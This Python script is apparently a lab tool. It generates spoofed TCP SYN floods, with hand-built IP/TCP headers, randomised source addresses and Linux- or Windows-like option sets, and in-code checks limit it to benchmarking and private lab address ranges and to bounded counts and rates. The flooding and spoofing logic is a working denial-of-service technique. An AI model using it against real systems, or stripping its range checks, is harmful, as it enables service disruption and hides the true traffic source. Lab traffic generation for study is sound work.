#!/usr/bin/env python3
"""Bounded spoofed-SYN generator for the recording lab (run inside the attacker namespace).

Crafts raw IPv4/TCP SYNs (IPPROTO_RAW, IP_HDRINCL) whose source addresses are drawn from
198.18.0.0/15 only (RFC 2544 benchmarking range, routed to the attacker namespace), toward
one destination inside 10.77.0.0/16 only. Both ranges are enforced in code. Bounded by
--count and --max-seconds. Prints a JSON summary on stdout.
"""
import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

SPOOF_NET = ipaddress.ip_network("198.18.0.0/15")
DST_NET = ipaddress.ip_network("10.77.0.0/16")


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def tcp_options(kind, rnd, now_ms):
    if kind == "none":
        return b""
    if kind == "mss":
        return struct.pack("!BBH", 2, 4, 1460)
    if kind == "nots":  # Windows-like: MSS, NOP, WS 8, NOP, NOP, SACK_PERM
        return struct.pack("!BBH", 2, 4, 1460) + b"\x01\x03\x03\x08\x01\x01\x04\x02"
    if kind == "linux":  # MSS, SACK_PERM, TS, NOP, WS 7 (what a Linux client sends)
        tsval = (now_ms + rnd.getrandbits(20)) & 0xFFFFFFFF
        return (struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02"
                + struct.pack("!BBII", 8, 10, tsval, 0) + b"\x01\x03\x03\x07")
    raise ValueError(kind)


def build_syn(src, dst, sport, dport, isn, opts, ipid, ttl):
    doff = (20 + len(opts)) // 4
    win = 64240 if opts else 1024
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, doff << 4, 0x02, win, 0, 0) + opts
    pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    c = csum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    tot = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, tot, ipid, 0x4000, ttl, socket.IPPROTO_TCP, 0,
                     src.packed, dst.packed)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, required=True)
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--rate", type=float, default=500.0, help="SYNs per second")
    ap.add_argument("--max-seconds", type=float, default=30.0)
    ap.add_argument("--src-net", default="198.18.0.0/15")
    ap.add_argument("--options", choices=["none", "mss", "nots", "linux"], default="linux")
    ap.add_argument("--seed", type=int, default=None)
    a = ap.parse_args()

    src_net = ipaddress.ip_network(a.src_net)
    dst = ipaddress.ip_address(a.dst)
    if not src_net.subnet_of(SPOOF_NET):
        sys.exit("refusing: spoofed sources must lie in %s" % SPOOF_NET)
    if dst not in DST_NET:
        sys.exit("refusing: destination must lie in %s" % DST_NET)
    if a.count > 200000 or a.max_seconds > 300 or a.rate > 20000:
        sys.exit("refusing: bounds too large")

    rnd = random.Random(a.seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    nhosts = src_net.num_addresses
    base = int(src_net.network_address)
    start = time.monotonic()
    deadline = start + a.max_seconds
    interval = 1.0 / a.rate
    sent = 0
    errors = 0
    sources = set()
    ttl = rnd.choice([49, 52, 57, 113, 116])  # one "far away" TTL per run
    while sent < a.count and time.monotonic() < deadline:
        target = start + sent * interval
        d = target - time.monotonic()
        if d > 0:
            time.sleep(d)
        src = ipaddress.ip_address(base + rnd.randrange(1, nhosts - 1))
        assert src in SPOOF_NET
        sport = rnd.randrange(1024, 65536)
        now_ms = int(time.time() * 1000)
        pkt = build_syn(src, dst, sport, a.dport, rnd.getrandbits(32),
                        tcp_options(a.options, rnd, now_ms), rnd.getrandbits(16), ttl)
        try:
            s.sendto(pkt, (str(dst), 0))
            sent += 1
            sources.add(str(src))
        except OSError:
            errors += 1
            sent += 1
    print(json.dumps({"tool": "synflood", "dst": "%s:%d" % (dst, a.dport), "sent": sent - errors,
                      "send_errors": errors, "distinct_sources": len(sources),
                      "src_net": str(src_net), "options": a.options, "ttl": ttl,
                      "rate_pps": a.rate, "seconds": round(time.monotonic() - start, 3)}))


if __name__ == "__main__":
    main()
